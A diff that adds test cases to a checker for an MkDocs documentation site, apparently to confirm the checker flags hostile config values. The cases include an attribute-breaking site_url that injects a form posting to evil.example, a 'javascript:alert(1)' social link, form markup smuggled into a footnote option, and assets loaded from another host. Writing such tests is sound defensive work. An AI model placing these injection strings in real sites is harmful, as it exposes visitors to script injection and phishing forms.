@@ -707,6 +707,18 @@ CASES |= {
         replace("overrides/base.html", DRAWER, DRAWER + '<div style="background-image:url(//evil.example/x)"></div>'),
         f"{TEMPLATE}:105: every page would carry a style that loads '//evil.example/x' from another host"
         f"; {TEMPLATE_FIX}"),
+    "mkdocs.yml: a site_url that closes its attribute": (
+        replace(CONFIG, "site_url: https://iraq-restraint-edition.github.io/",
+                'site_url: "https://iraq-restraint-edition.github.io/?\\"><form action=https://evil.example/>"'),
+        None),
+    "mkdocs.yml: analytics": (
+        replace(CONFIG, "extra:\n", "extra:\n  analytics: {provider: google, property: G-XXXXXXXXXX}\n"), None),
+    "mkdocs.yml: a logo from another host": (
+        replace(CONFIG, "  font: false", "  logo: https://evil.example/logo.png\n  font: false"), None),
+    "mkdocs.yml: a social link that runs a script": (
+        replace(CONFIG, "extra:\n", "extra:\n  social: [{icon: fontawesome/brands/github, link: 'javascript:alert(1)'}]\n"), None),
+    "mkdocs.yml: markup in an extension's option": (
+        replace(CONFIG, "  - footnotes", "  - footnotes: {BACKLINK_TEXT: '<form action=https://evil.example/>back</form>'}"), None),
     "an empty glossary name": (
         replace("sources/essay/glossary.yml", "  name: Kataib Hizbullah", "  name: \"\""),
         "sources/essay/glossary.yml:5: glossary entry 'kataib-hizbullah': 'name' must be text (the entry's name), got ''; "
